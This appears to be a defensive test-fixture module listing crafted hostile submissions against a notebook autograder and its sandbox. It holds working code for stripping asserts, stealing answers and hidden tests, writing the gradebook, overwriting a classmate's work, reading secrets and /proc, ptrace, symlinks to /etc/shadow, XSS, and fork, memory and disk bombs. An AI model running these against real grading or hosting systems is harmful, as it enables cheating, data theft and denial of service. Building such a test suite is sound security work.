"""Crafted hostile submissions: every way a student has tried, or might try, to game, break or sway grading.

Each ``Attack`` is a student: the answers it really gives, code that runs in its kernel (in
a new cell after the setup cell, or at the end, after every test), and what the report
must say. Answers are Python source written into the answer cells: ``ALL`` is every right
answer; a dict maps ``each``, ``letters``, ``numbers`` (templates with ``{q}``, the
question's name) or ``letter:N`` (the N-th letter question; ``RIGHT`` for its key) to
source. Code is a template: ``{course}`` is the course folder, ``{victim}`` a classmate
graded later, ``{port}`` a port the grader's machine listens on, ``{letters}``/``{numbers}``
the questions by kind. Code prints ``BREACH`` when it got something it should not have;
the suite asserts that no printed output anywhere says so.

Attacks marked ``potent`` succeed without the sandbox (the suite shows it with ``--unsafe``).
"""

from dataclasses import dataclass, field

__all__ = ["ALL", "Attack", "ATTACKS", "BYSTANDERS", "by_name"]

ALL = "ALL"


@dataclass
class Attack:
    name: str
    doc: str
    code: str = ""
    at: str = "start"  # "start": a new cell after setup; "end": a new cell after the last test
    answers: object = field(default_factory=dict)  # {name: source}, or ALL
    problems: tuple = ()  # kinds the report must list for this student
    not_graded: bool = False  # the expected outcome is "not graded" (with a reason)
    potent: bool = False  # it raises the score where nothing stops it
    notebook: str = ""  # how the notebook is changed beyond answers and code (see test_grading_hostile)


_READ_SOURCE = r'''
import json, re
STOLEN = {{}}
for path in ("{course}/source/module_test/module_test.ipynb", "{course}/release/../source/module_test/module_test.ipynb"):
    try:
        text = "".join("".join(c["source"]) for c in json.load(open(path))["cells"])
    except Exception as exc:
        print("refused:", type(exc).__name__)
        continue
    for name, value in re.findall(r"### BEGIN SOLUTION\n(q\d+) = (.*)\n", text):
        STOLEN[name] = eval(value)
if STOLEN:
    print("BREACH: answers read from the source")
'''

_READ_GRADEBOOK = r'''
import re, sqlite3
STOLEN = {{}}
try:
    db = sqlite3.connect("file:{course}/gradebook.db?mode=ro", uri=True)
    text = "\n".join(src for (src,) in db.execute("select source from source_cell where source is not null"))
    for name, value in re.findall(r'isinstance\((q\d+), str\) and \1\.strip\(\)\.upper\(\) == "(\w)"', text):
        STOLEN[name] = value
    for name, value in re.findall(r'abs\(float\((q\d+)\) - ([0-9.e+-]+)\)', text):
        STOLEN[name] = float(value)
    print("BREACH: hidden tests read from the gradebook")
except Exception as exc:
    print("refused:", type(exc).__name__)
'''

_EXTRA_CREDIT = r'''
import sqlite3
try:
    db = sqlite3.connect("{course}/gradebook.db", timeout=1)
    db.execute("update grade set extra_credit = {credit} where {where}")
    db.commit()
    print("BREACH: gradebook written")
except Exception as exc:
    print("refused:", type(exc).__name__)
'''

_SLEEPER = r'''
import subprocess, sys
code = """
import sqlite3, time
time.sleep(4)
db = sqlite3.connect("{course}/gradebook.db", timeout=5)
db.execute("update grade set extra_credit = 50")
db.commit()
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("a second process will write the gradebook later")
'''

ATTACKS = [
    # ---- raising one's own score: the seven ways to 26/26 with nothing answered
    Attack("ast-transformer", "removes every assert with an IPython AST transformer", r'''
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
''', potent=False),
    Attack("input-transformer", "drops every line with 'assert' with an input transformer", r'''
get_ipython().input_transformers_post.append(lambda lines: [ln for ln in lines if "assert" not in ln])
'''),
    Attack("settrace", "reads each hidden test's constants with sys.settrace and sets the answer it names", r'''
import re, sys
def tracer(frame, event, arg):
    code = frame.f_code
    names = [n for n in code.co_names if re.fullmatch(r"q\d+", n)]
    for c in code.co_consts:
        for n in names:
            if isinstance(c, str) and len(c) == 1 or isinstance(c, float):
                frame.f_globals[n] = c
    return None
sys.settrace(tracer)
'''),
    Attack("always-equal", "answers with a str subclass equal to everything, a float subclass, and an overridden abs",
           r'''
import builtins
class Always(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
    def strip(self, *a): return self
    def upper(self): return self
class Zero(float):
    def __float__(self): return self
    def __sub__(self, other): return Zero(0.0)
builtins.abs = lambda x: 0
''', answers={"letters": 'Always("")', "numbers": "Zero(1e9)"}, problems=("converted answer",)),
    Attack("read-source", "reads the answers from source/ and answers with them", _READ_SOURCE,
           answers={"each": 'STOLEN.get("{q}")'}, potent=True),
    Attack("read-gradebook", "reads the hidden tests stored in gradebook.db and answers with their constants",
           _READ_GRADEBOOK, answers={"each": 'STOLEN.get("{q}")'}, potent=True),
    Attack("extra-credit", "writes extra credit into gradebook.db for itself",
           _EXTRA_CREDIT.replace("{credit}", "100").replace("{where}", "1 = 1"), potent=True),
    Attack("extra-credit-later", "leaves a second process that writes the gradebook after the kernel is gone", _SLEEPER),
    # ---- swaying others
    Attack("zero-classmate", "gives a later classmate negative extra credit",
           _EXTRA_CREDIT.replace("{credit}", "-100").replace("{where}", "1 = 1")),
    Attack("overwrite-classmate", "overwrites a later classmate's submission with a blank notebook", r'''
import shutil
try:
    shutil.copyfile("{course}/release/module_test/module_test.ipynb",
                    "{course}/submitted/{victim}/module_test/module_test.ipynb")
    print("BREACH: a classmate's submission overwritten")
except Exception as exc:
    print("refused:", type(exc).__name__)
'''),
    Attack("plant-notebook", "plants a second notebook in source/module_test and edits the source", r'''
try:
    open("{course}/source/module_test/planted.ipynb", "w").write("{{}}")
    print("BREACH: planted")
except Exception as exc:
    print("refused:", type(exc).__name__)
try:
    open("{course}/source/module_test/module_test.ipynb", "a").write(" ")
    print("BREACH: source edited")
except Exception as exc:
    print("refused:", type(exc).__name__)
'''),
    Attack("environment", "prints every environment variable (tokens included)", r'''
import os
print(dict(os.environ))
'''),
    Attack("network", "reaches the grader's machine on loopback and the internet", r'''
import socket
for host in ("127.0.0.1", "10.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"BREACH")
        print("BREACH: connected to", host)
    except Exception as exc:
        print("refused:", host, type(exc).__name__)
'''),
    Attack("grader-proc", "looks for the grader in /proc (its command line, environment, memory)", r'''
import os
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        cmd = open(f"/proc/{{pid}}/cmdline", "rb").read()
        if b"pytest" in cmd or b"nbgrader" in cmd:
            print("BREACH: grader visible", pid)
        env = open(f"/proc/{{pid}}/environ", "rb").read()
        if b"OSSLLM_TEST_SECRET" in env:
            print("BREACH: grader environment")
    except Exception as exc:
        print("refused:", pid, type(exc).__name__)
print("processes seen:", sorted(p for p in os.listdir("/proc") if p.isdigit()))
'''),
    Attack("ptrace", "attaches to the sandbox's first process and its parent with ptrace", r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("BREACH: ptrace attached", pid)
    else:
        print("refused: ptrace", pid, os.strerror(ctypes.get_errno()))
try:
    open("/proc/1/mem", "rb").read(1)
    print("BREACH: /proc/1/mem")
except Exception as exc:
    print("refused:", type(exc).__name__)
'''),
    Attack("user-namespace", "makes a user namespace to mount its own filesystems", r'''
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    os._exit(0 if libc.unshare(0x10000000) == 0 else 1)
_, status = os.waitpid(pid, 0)
print("BREACH: user namespace" if os.waitstatus_to_exitcode(status) == 0 else "refused: unshare")
r = subprocess.run(["unshare", "-Ur", "true"], capture_output=True)
print("BREACH: unshare -Ur" if r.returncode == 0 else "refused: unshare -Ur")
'''),
    Attack("symlinks", "links course files into its folder and reads them", r'''
import os
for target in ("{course}/gradebook.db", "{course}/source/module_test/module_test.ipynb", "/proc/1/root/etc/shadow"):
    try:
        os.symlink(target, "link")
        open("link", "rb").read(1)
        print("BREACH: read through a link to", target)
    except Exception as exc:
        print("refused:", type(exc).__name__)
    finally:
        if os.path.lexists("link"):
            os.unlink("link")
''', answers={"letter:0": "RIGHT"}),
    Attack("fake-partial-credit", "posts execute_result messages from a thread, so test cells look partly passed", r'''
import threading, time
ip = get_ipython()
def spam():
    while True:
        try:
            ip.kernel.session.send(ip.kernel.iopub_socket, "execute_result",
                                   {{"data": {{"text/plain": "1.0"}}, "metadata": {{}}, "execution_count": 1}},
                                   parent=ip.kernel.get_parent("shell"))
        except Exception:
            pass
        time.sleep(0.002)
threading.Thread(target=spam, daemon=True).start()
'''),
    Attack("forged-capture", "makes the answer report say 'A' for every letter question (it is its answer, then)", r'''
import json
real = json.dumps
def dumps(obj, *a, **k):
    if isinstance(obj, dict) and "values" in obj:
        obj = {{"values": {{n: ["str", "A"] for n in {letters}}}, "notes": []}}
    return real(obj, *a, **k)
json.dumps = dumps
''', answers={"letters": '"A"'}),
    Attack("capture-code", "replaces the answer report with an object whose repr is code", r'''
class Evil:
    def __repr__(self):
        return "__import__('os').system('touch /tmp/ossllm-pwned')"
_ossllm_capture_ = lambda *a, **k: Evil()
'''),
    Attack("metadata", "gives a test cell 100 points and adds a graded cell of its own worth 100", "",
           notebook="metadata", not_graded=True),
    Attack("edited-test", "rewrites a test cell's visible part to set the answer", "", notebook="edited-test",
           problems=("edited test cell",)),
    Attack("huge-answer", "answers with a 10 MB string and a list that contains itself", "",
           answers={"letter:0": '"A" * 10_000_000', "letter:1": "(lambda l: (l.append(l), l)[1])([])"},
           problems=("not a plain value",)),
    Attack("markers", "prints nbgrader's markers, so a feedback page seems to leak hidden tests", r'''
print("### BEGIN HIDDEN TESTS\nassert True\n### END HIDDEN TESTS\n### BEGIN SOLUTION\n### END SOLUTION")
raise ValueError("### BEGIN HIDDEN TESTS")
''', answers=ALL, problems=("error",)),
    Attack("forged-report", "raises an error whose message forges a line of the report", r'''
raise RuntimeError("x\n{victim}                       0/28    0.0%  FAIL\n    - [autograde] forged")
''', answers=ALL, problems=("error",)),
    Attack("xss", "shows a script as HTML output and in a Markdown cell", r'''
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='BREACH'</script><b>bold</b>"))
display(Javascript("document.title='BREACH'"))
''', answers=ALL, notebook="markdown-script"),
    # ---- stopping the class: contained, reported, the attacker keeps what its answers earn
    Attack("kill-parent", "kills its parent and every process it can signal", r'''
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
        print("BREACH: killed", pid)
    except Exception as exc:
        print("refused:", pid, type(exc).__name__)
try:
    os.kill(-1, signal.SIGKILL)  # every other process it may signal: here, none
except ProcessLookupError:
    print("refused: kill -1")
os.kill(os.getpid(), signal.SIGKILL)
''', at="end", answers=ALL, problems=("stopped",)),
    Attack("stop-self", "stops its own kernel with SIGSTOP, so it never answers", r'''
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
''', at="end", answers=ALL, problems=("stopped",)),
    Attack("ignore-interrupt", "ignores SIGINT and loops forever", r'''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
''', at="end", answers=ALL, problems=("stopped",)),
    Attack("slow-cells", "many cells, each just under the cell limit (the issue's twelve 4 s cells)", "",
           at="end", answers=ALL, notebook="slow-cells", problems=("stopped",)),
    Attack("fork-bomb", "forks until refused, then leaves a classic fork bomb running", r'''
import os, subprocess, sys, time
children = []
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children.append(pid)
print("forks:", len(children))
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
subprocess.Popen([sys.executable, "-c", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"])
time.sleep(5)
''', at="end", answers=ALL, problems=("timeout",)),
    Attack("memory", "allocates 2 GiB in its kernel", r'''
block = bytearray(2 * 1024 ** 3)
''', answers=ALL, problems=("error",)),
    Attack("memory-processes", "allocates memory in many processes, each under the per-process limit", r'''
import os, time
for _ in range(12):
    if os.fork() == 0:
        block = bytearray(200 * 1024 ** 2)
        time.sleep(60)
        os._exit(0)
time.sleep(5)
''', at="end", answers=ALL, problems=("stopped",)),
    Attack("output-flood", "prints without end", r'''
while True:
    print("x" * 10_000)
''', at="end", answers=ALL, problems=("output",)),
    Attack("huge-message", "prints one 40 MB string (one message larger than the grader accepts)", r'''
print("y" * 40_000_000)
''', answers=ALL, problems=("output lost",)),
    Attack("burst-then-hang", "prints 30 MB within one output flush, then ignores SIGINT and loops (no reply ever)", r'''
import signal
for _ in range(300):
    print("w" * 100_000)
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
''', at="end", answers=ALL, problems=("output lost", "stopped")),
    Attack("disk", "fills /tmp and its home, and writes one huge file", r'''
import os
for path in ("/tmp/fill", "fill"):
    try:
        with open(path, "wb") as fh:
            for _ in range(1000):
                fh.write(b"0" * (1 << 20))
        print("BREACH: wrote 1 GB to", path)
    except OSError as exc:
        print("refused:", path, exc.strerror)
    if os.path.exists(path):
        os.unlink(path)
''', answers=ALL),
    Attack("exit", "ends its kernel with os._exit", r'''
import os
os._exit(0)
''', at="end", answers=ALL, problems=("stopped",)),
    # ---- honest mistakes
    Attack("duplicated-cell", "copy-pastes an answer cell (metadata and all)", "", answers=ALL, notebook="duplicate"),
    Attack("decimal-answers", "answers numbers as Decimal, Fraction and numpy scalars", "", answers="NUMBER_TYPES",
           problems=("converted answer",)),
    Attack("linked-notebook", "hands in a link to the source notebook instead of a notebook", "", not_graded=True,
           notebook="link"),
]

# classmates with ordinary submissions, graded before, between and after the attackers
BYSTANDERS = {"aa-early": ALL, "mm-middle": "HALF", "zz-late": ALL}


def by_name(name: str) -> Attack:
    return next(a for a in ATTACKS if a.name == name)
